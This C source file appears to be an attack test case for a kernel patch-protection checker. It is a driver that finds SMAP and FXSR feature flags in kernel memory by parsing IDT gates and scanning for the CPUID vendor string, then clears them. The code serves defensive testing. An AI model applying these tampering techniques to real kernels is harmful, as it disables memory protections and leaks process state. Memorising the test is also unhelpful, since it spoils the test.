/* attack_a100_cpu_flags (A100): kernel flags deciding its use of SMAP and FXSR, rewritten after boot. Neither was a region:
 *  - `smap` clears `smap_enabled`, which the common interrupt entry tests
 *    before its CLAC (found in the entry's first instruction, `testb $1,
 *    smap_enabled(%rip)`, reached from any IDT gate's stub): an interrupt
 *    or fault taken inside copy_user's STAC window then runs its handler,
 *    and whatever that handler runs, with RFLAGS.AC set, i.e. SMAP off: a
 *    ring-3 pointer such code dereferences is read as the program laid it
 *    out, where SMAP would fault;
 *  - `fxsr` clears `cpu_features.fxsr` (the structure found through the
 *    processor's vendor string, which CPUID gives and the kernel copies
 *    into it): threads created afterwards get no FPU save area, so their
 *    x87/SSE registers are neither saved nor loaded on a switch and pass
 *    from one process to the next;
 *  - `smap_copy` clears `cpu_features.smap`: copy_user no longer sets
 *    RFLAGS.AC, so with CR4.SMAP still on every system call that reads or
 *    writes a user buffer fails (denial of service, no weakening).
 * Expected (before the fix): no bug check. */
#include "attack.h"

#define CPU_FEATURES_VENDOR 8 /* offsetof(struct cpu_features, vendor): 8 bools first */

static uint8_t *find_smap_enabled(void)
{
	struct {
		uint16_t limit;
		uint64_t base;
	} __attribute__((packed)) idtr;
	__asm__ volatile("sidt %0" : "=m"(idtr));
	const uint8_t *g = (const uint8_t *)idtr.base + 16 * 0x20; /* any vector's gate */
	uint64_t stub = (uint64_t)(g[0] | g[1] << 8) | (uint64_t)(g[6] | g[7] << 8) << 16 |
			(uint64_t)(g[8] | g[9] << 8 | g[10] << 16 | (uint32_t)g[11] << 24) << 32;
	const uint8_t *p = (const uint8_t *)stub, *entry = NULL;
	for (int i = 0; i < 16 && !entry; i++) {
		int32_t rel;
		if (p[i] == 0xE9) {
			memcpy(&rel, p + i + 1, 4);
			entry = p + i + 5 + rel;
		} else if (p[i] == 0xEB) {
			entry = p + i + 2 + (int8_t)p[i + 1];
		}
	}
	if (!entry || entry[0] != 0xF6 || entry[1] != 0x05 || entry[6] != 0x01) /* testb $1, disp32(%rip) */
		return NULL;
	int32_t disp;
	memcpy(&disp, entry + 2, 4);
	return (uint8_t *)(entry + 7 + disp);
}

/* The vendor string in the kernel's writable data, NUL-terminated and
 * after eight bytes that are all booleans (the console's log holds the
 * string too, after "cpu: "). */
static uint8_t *find_cpu_features(void)
{
	uint32_t a, v[3];
	__asm__ volatile("cpuid" : "=a"(a), "=b"(v[0]), "=d"(v[1]), "=c"(v[2]) : "a"(0), "c"(0));
	uint64_t base = a_kernel_base(), end = a_kernel_end(base);
	for (uint64_t p = base; p < end; p += A_PAGE) {
		if (a_page_class(p) != A_DATA)
			continue;
		for (uint64_t q = p + CPU_FEATURES_VENDOR; q < p + A_PAGE && q + 13 <= end; q++) {
			const uint8_t *f = (const uint8_t *)q - CPU_FEATURES_VENDOR;
			bool flags = true;
			for (int i = 0; i < CPU_FEATURES_VENDOR; i++)
				flags = flags && f[i] <= 1;
			if (flags && !((const uint8_t *)q)[12] && !memcmp((const void *)q, v, 12))
				return (uint8_t *)f;
		}
	}
	return NULL;
}

status_t driver_entry(struct driver_object *drv)
{
	const char *mode = drv->args;
	uint8_t *at;
	if (!strcmp(mode, "smap"))
		at = find_smap_enabled();
	else if (!strcmp(mode, "fxsr"))
		at = (at = find_cpu_features()) ? at + 7 : NULL; /* nx, smep, smap, pge, rdrand, apic, umip, fxsr */
	else if (!strcmp(mode, "smap_copy"))
		at = (at = find_cpu_features()) ? at + 2 : NULL;
	else {
		printk("attack_a100: unknown mode\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	if (!at || *at != 1) {
		printk("attack_a100: flag not found\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	*at = 0;
	printk("attack_a100: kernel flag cleared (%s)\n", mode);
	a_patched("attack_a100");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
